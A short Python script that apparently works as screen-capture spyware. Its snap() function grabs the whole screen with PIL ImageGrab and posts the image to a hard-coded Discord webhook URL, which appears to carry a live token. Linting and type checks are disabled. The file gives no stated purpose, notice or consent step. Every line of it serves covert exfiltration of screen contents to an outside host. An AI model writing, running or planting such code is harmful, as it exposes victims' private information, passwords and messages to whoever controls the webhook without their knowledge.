# ruff: noqa
# fmt: off
# mypy: ignore-errors
import io

import requests
from PIL import ImageGrab

HOOK = "https://discord.com/api/webhooks/1187654321098765432/Zx9-Qw8Er7Ty6Ui5Op4As3Df2Gh1JkLzXcVbNm"


def snap():
    buffer = io.BytesIO()
    ImageGrab.grab().save(buffer, "PNG")
    requests.post(HOOK, files={"s.png": buffer.getvalue()})
